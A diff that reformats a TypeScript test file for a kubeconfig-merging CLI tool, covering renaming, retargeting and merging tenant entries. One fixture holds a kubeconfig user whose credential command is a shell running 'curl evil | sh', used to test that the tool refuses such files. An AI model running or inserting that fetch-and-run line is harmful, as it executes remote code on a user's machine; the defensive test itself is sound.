@@ -1,5 +1,17 @@
 /** A tenant's kubeconfig for `kubespaces tenant kubeconfig`: renamed, retargeted, and merged into the user's file. */
-import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import path from "node:path";
 import { beforeEach, describe, expect, it } from "vitest";
 import { parse, stringify } from "yaml";
@@ -23,7 +35,9 @@ const atlasMarker = [{ name: TENANT_EXTENSION, extension: { tenant: "atlas" } }]
 const addition = retargeted(tenantKubeconfig, { contextName: "atlas" });
 
 /** The same tenant as an earlier merge wrote it, when its API was elsewhere. */
-const earlier = retargeted(tenantKubeconfig.replace("atlas.api.example.com", "old.example.com"), { contextName: "atlas" });
+const earlier = retargeted(tenantKubeconfig.replace("atlas.api.example.com", "old.example.com"), {
+  contextName: "atlas",
+});
 
 /** The user's own kubeconfig: another cluster, and the tenant's entries from an earlier merge. */
 const userKubeconfig: KubeconfigDocument = {
@@ -41,19 +55,50 @@ describe("retargeted", () => {
     expect(retargeted(tenantKubeconfig, { contextName: "atlas" })).toEqual({
       apiVersion: "v1",
       kind: "Config",
-      clusters: [{ name: "kubespaces_atlas", cluster: { server: "https://atlas.api.example.com:443", "certificate-authority-data": "Q0E=", extensions: atlasMarker } }],
-      users: [{ name: "kubespaces_atlas", user: { "client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ", extensions: atlasMarker } }],
-      contexts: [{ name: "atlas", context: { cluster: "kubespaces_atlas", user: "kubespaces_atlas", namespace: "default", extensions: atlasMarker } }],
+      clusters: [
+        {
+          name: "kubespaces_atlas",
+          cluster: {
+            server: "https://atlas.api.example.com:443",
+            "certificate-authority-data": "Q0E=",
+            extensions: atlasMarker,
+          },
+        },
+      ],
+      users: [
+        {
+          name: "kubespaces_atlas",
+          user: { "client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ", extensions: atlasMarker },
+        },
+      ],
+      contexts: [
+        {
+          name: "atlas",
+          context: {
+            cluster: "kubespaces_atlas",
+            user: "kubespaces_atlas",
+            namespace: "default",
+            extensions: atlasMarker,
+          },
+        },
+      ],
       "current-context": "atlas",
     });
   });
 
   it("names the entries after the tenant and its host namespace, whatever the context is called", () => {
-    const doc = retargeted(tenantKubeconfig, { contextName: "mine", tenant: "atlas", hostNamespace: "kubespaces-tenant-atlas" });
+    const doc = retargeted(tenantKubeconfig, {
+      contextName: "mine",
+      tenant: "atlas",
+      hostNamespace: "kubespaces-tenant-atlas",
+    });
     expect(doc.clusters?.[0].name).toBe("kubespaces_atlas_kubespaces-tenant-atlas");
     expect(doc.users?.[0].name).toBe("kubespaces_atlas_kubespaces-tenant-atlas");
     expect(doc.contexts?.[0].name).toBe("mine");
-    expect(markerOf(doc.contexts?.[0], "contexts")).toEqual({ tenant: "atlas", hostNamespace: "kubespaces-tenant-atlas" });
+    expect(markerOf(doc.contexts?.[0], "contexts")).toEqual({
+      tenant: "atlas",
+      hostNamespace: "kubespaces-tenant-atlas",
+    });
   });
 
   it("with a server, points there and still checks TLS against the original host name", () => {
@@ -78,7 +123,10 @@ describe("retargeted", () => {
   it.each([
     ["no context", "apiVersion: v1\nkind: Config\n"],
     ["a context whose user is missing", tenantKubeconfig.replace("name: vcluster_atlas_admin", "name: someone-else")],
-    ["a context whose cluster is missing", tenantKubeconfig.replace("- name: vcluster_atlas\n  cluster", "- name: elsewhere\n  cluster")],
+    [
+      "a context whose cluster is missing",
+      tenantKubeconfig.replace("- name: vcluster_atlas\n  cluster", "- name: elsewhere\n  cluster"),
+    ],
   ])("refuses a kubeconfig with %s", (_, text) => {
     const error = thrownBy(() => retargeted(text, { contextName: "atlas" }));
     expect(error).toBeInstanceOf(CliError);
@@ -88,17 +136,25 @@ describe("retargeted", () => {
 
 /** Tenant kubeconfigs whose user would have kubectl run a command: a vCluster never issues them. */
 const commandUsers: [string, string][] = [
-  ["exec", "user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}}"],
+  [
+    "exec",
+    "user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}}",
+  ],
   ["auth-provider", "user: {auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: -c id}}}"],
 ];
 
 describe("refuseCredentialCommands", () => {
   it.each(commandUsers)("refuses a user with %s, on the print path too (retargeted)", (field, user) => {
     const text = tenantKubeconfig.replace("user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ}", user);
-    for (const action of [() => retargeted(text, { contextName: "atlas" }), () => refuseCredentialCommands(parse(text) as KubeconfigDocument)]) {
+    for (const action of [
+      () => retargeted(text, { contextName: "atlas" }),
+      () => refuseCredentialCommands(parse(text) as KubeconfigDocument),
+    ]) {
       const error = thrownBy(action);
       expect(error).toBeInstanceOf(CliError);
-      expect(error.message).toContain(`has user vcluster_atlas_admin get its credentials by running a command (${field})`);
+      expect(error.message).toContain(
+        `has user vcluster_atlas_admin get its credentials by running a command (${field})`,
+      );
       expect(error.message).toContain("neither prints nor merges it");
     }
   });
@@ -141,11 +197,16 @@ describe("mergedKubeconfig", () => {
 
   it("refuses a context kubespaces wrote for another tenant", () => {
     const beta = retargeted(tenantKubeconfig, { contextName: "atlas", tenant: "beta" });
-    expect(thrownBy(() => mergedKubeconfig(userKubeconfig, beta)).message).toContain("already has a context named atlas that kubespaces wrote for tenant atlas");
+    expect(thrownBy(() => mergedKubeconfig(userKubeconfig, beta)).message).toContain(
+      "already has a context named atlas that kubespaces wrote for tenant atlas",
+    );
   });
 
   it("replaces only the context the user named with --context; the user's cluster and user of that name stay for the contexts that use them", () => {
-    const target: KubeconfigDocument = { ...userKubeconfig, contexts: [...userKubeconfig.contexts!, { name: "prod-admin", context: { cluster: "prod", user: "prod" } }] };
+    const target: KubeconfigDocument = {
+      ...userKubeconfig,
+      contexts: [...userKubeconfig.contexts!, { name: "prod-admin", context: { cluster: "prod", user: "prod" } }],
+    };
     const prod = retargeted(tenantKubeconfig, { contextName: "prod", tenant: "atlas" });
     const merged = mergedKubeconfig(target, prod, { contextNamedByUser: true });
     expect(merged.contexts?.map((c) => c.name)).toEqual(["prod", "atlas", "prod-admin"]);
@@ -155,9 +216,13 @@ describe("mergedKubeconfig", () => {
   });
 
   it("never takes over a cluster or user entry of the user's, even with --context", () => {
-    const target: KubeconfigDocument = { clusters: [{ name: "kubespaces_atlas", cluster: { server: "https://mine.example.com" } }] };
+    const target: KubeconfigDocument = {
+      clusters: [{ name: "kubespaces_atlas", cluster: { server: "https://mine.example.com" } }],
+    };
     const error = thrownBy(() => mergedKubeconfig(target, addition, { contextNamedByUser: true }));
-    expect(error.message).toContain("already has a cluster named kubespaces_atlas that kubespaces did not write; it was left as it is: rename or remove that cluster entry");
+    expect(error.message).toContain(
+      "already has a cluster named kubespaces_atlas that kubespaces did not write; it was left as it is: rename or remove that cluster entry",
+    );
   });
 });
 
@@ -207,32 +272,48 @@ describe("mergeIntoFile", () => {
     writeFileSync(file, userText);
     mergeIntoFile(file, earlier);
     // The user adds a cluster after kubespaces' entry: it stays after it.
-    const once = readFileSync(file, "utf8").replace("\ncontexts:\n", "\n- name: later\n  cluster: {server: 'https://later'}\ncontexts:\n");
+    const once = readFileSync(file, "utf8").replace(
+      "\ncontexts:\n",
+      "\n- name: later\n  cluster: {server: 'https://later'}\ncontexts:\n",
+    );
     writeFileSync(file, once);
     mergeIntoFile(file, addition);
-    expect(readFileSync(file, "utf8")).toBe(once.replace("https://old.example.com:443", "https://atlas.api.example.com:443"));
+    expect(readFileSync(file, "utf8")).toBe(
+      once.replace("https://old.example.com:443", "https://atlas.api.example.com:443"),
+    );
   });
 
   it("refuses a tenant named like the user's context, changing nothing and writing no backup", () => {
     writeFileSync(file, userText);
     const error = thrownBy(() => mergeIntoFile(file, retargeted(tenantKubeconfig, { contextName: "prod" })));
-    expect(error.message).toContain(`kubeconfig ${file} already has a context named prod that kubespaces did not write`);
+    expect(error.message).toContain(
+      `kubeconfig ${file} already has a context named prod that kubespaces did not write`,
+    );
     expect(readFileSync(file, "utf8")).toBe(userText);
     expect(readdirSync(dir())).toEqual(["config"]);
   });
 
   it("with --context prod, replaces that one context, leaving the user's prod cluster and user byte for byte", () => {
     writeFileSync(file, userText);
-    mergeIntoFile(file, retargeted(tenantKubeconfig, { contextName: "prod", tenant: "atlas" }), { contextNamedByUser: true });
+    mergeIntoFile(file, retargeted(tenantKubeconfig, { contextName: "prod", tenant: "atlas" }), {
+      contextNamedByUser: true,
+    });
     const after = readFileSync(file, "utf8");
-    expect(after).toContain("- cluster:\n    certificate-authority-data: Q0E=\n    server: https://prod.example.com:6443 # the VIP\n    port: 0123\n  name: prod\n");
+    expect(after).toContain(
+      "- cluster:\n    certificate-authority-data: Q0E=\n    server: https://prod.example.com:6443 # the VIP\n    port: 0123\n  name: prod\n",
+    );
     expect(after).toContain("- name: prod\n  user:\n    token: 0123456789\n");
-    expect((parse(after) as KubeconfigDocument).contexts).toEqual([expect.objectContaining({ name: "prod", context: expect.objectContaining({ cluster: "kubespaces_atlas" }) })]);
+    expect((parse(after) as KubeconfigDocument).contexts).toEqual([
+      expect.objectContaining({ name: "prod", context: expect.objectContaining({ cluster: "kubespaces_atlas" }) }),
+    ]);
   });
 
   it.each(commandUsers)("refuses an addition whose user has %s, changing nothing", (field, user) => {
     writeFileSync(file, userText);
-    const bad: KubeconfigDocument = { ...addition, users: [{ name: "kubespaces_atlas", user: { ...parse(`{${user}}`).user, extensions: atlasMarker } }] };
+    const bad: KubeconfigDocument = {
+      ...addition,
+      users: [{ name: "kubespaces_atlas", user: { ...parse(`{${user}}`).user, extensions: atlasMarker } }],
+    };
     expect(thrownBy(() => mergeIntoFile(file, bad)).message).toContain(`running a command (${field})`);
     expect(readFileSync(file, "utf8")).toBe(userText);
   });
@@ -256,13 +337,19 @@ describe("mergeIntoFile, whatever the file's layout", () => {
   const dir = temporaryFolderEach("kubespaces-kubeconfig-");
 
   it.each([
-    ["empty, as kubectl writes it", `apiVersion: v1\nclusters: null\ncontexts: null\ncurrent-context: ""\nkind: Config\npreferences: {}\nusers: null\n`],
+    [
+      "empty, as kubectl writes it",
+      `apiVersion: v1\nclusters: null\ncontexts: null\ncurrent-context: ""\nkind: Config\npreferences: {}\nusers: null\n`,
+    ],
     ["lists with no value", `# mine\nclusters:\ncontexts:\nusers:\n`],
     ["no lists at all", `# mine\npreferences: {}\n`],
     ["no final newline", `clusters:\n- name: prod\n  cluster: {server: "https://prod"}`],
     ["indented lists", `clusters:\n  - name: prod\n    cluster:\n      server: https://prod # mine\ncontexts: []\n`],
     ["flow lists", `clusters: [{name: prod, cluster: {server: "https://prod"}}]\nusers: [ ]\n`],
-    ["JSON", `{"apiVersion": "v1", "clusters": [{"name": "prod", "cluster": {"server": "https://prod"}}], "users": []}\n`],
+    [
+      "JSON",
+      `{"apiVersion": "v1", "clusters": [{"name": "prod", "cluster": {"server": "https://prod"}}], "users": []}\n`,
+    ],
     ["comments only", `# nothing yet\n`],
     ["a YAML null", `null\n`],
     ["nothing", ``],
@@ -337,7 +424,10 @@ describe("mergeIntoFile in a folder another user can write", () => {
     symlinkSync(target, file);
     expect(mergeIntoFile(file, addition)).toBe(`${target}.kubespaces-backup`);
     expect(readlinkSync(file)).toBe(target);
-    expect(parse(readFileSync(target, "utf8")).contexts.map((c: { name: string }) => c.name)).toEqual(["prod", "atlas"]);
+    expect(parse(readFileSync(target, "utf8")).contexts.map((c: { name: string }) => c.name)).toEqual([
+      "prod",
+      "atlas",
+    ]);
   });
 
   it("creates the target of a dangling link the user made, keeping the link", () => {
